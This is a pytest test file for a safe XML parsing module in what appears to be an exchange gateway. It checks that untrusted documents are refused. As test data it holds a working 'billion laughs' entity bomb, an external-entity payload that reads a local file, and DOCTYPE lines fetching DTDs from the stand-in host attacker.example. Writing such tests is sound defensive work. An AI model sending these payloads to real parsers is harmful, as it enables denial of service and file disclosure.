"""Untrusted XML: entity expansion bombs and external entities are refused before anything is expanded."""

from __future__ import annotations

from pathlib import Path

import pytest

from smile_ewp_gateway.xmlkit.safe import UnsafeXml, XmlError, parse_untrusted

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<omobilities-update-request>&lol3;</omobilities-update-request>"""


def external_entity(path: Path) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY secret SYSTEM "file://{path}">]>'
        "<omobility-las-update-request>&secret;</omobility-las-update-request>"
    ).encode()


def test_entity_expansion_bombs_are_refused() -> None:
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        parse_untrusted(BILLION_LAUGHS)


def test_external_entities_are_refused_and_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    with pytest.raises(UnsafeXml):
        parse_untrusted(external_entity(secret))


@pytest.mark.parametrize(
    "document",
    [
        b'<!doctype r SYSTEM "http://attacker.example/evil.dtd"><r/>',
        b'<?xml version="1.0"?>\n<!DOCTYPE r PUBLIC "-//x//y" "http://attacker.example/p.dtd"><r/>',
        b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><!ENTITY x "y"></r>',
    ],
)
def test_any_document_type_declaration_is_refused(document: bytes) -> None:
    with pytest.raises(UnsafeXml):
        parse_untrusted(document)


def test_size_limit() -> None:
    with pytest.raises(UnsafeXml, match="larger"):
        parse_untrusted(b"<r>" + b"x" * 2000 + b"</r>", max_bytes=1000)


def test_not_well_formed() -> None:
    with pytest.raises(XmlError):
        parse_untrusted(b"<r><unclosed></r>")


def test_ordinary_documents_pass() -> None:
    root = parse_untrusted(b'<?xml version="1.0" encoding="UTF-8"?><r xmlns="urn:x"><a>caf\xc3\xa9</a></r>')
    assert root[0].text == "café"
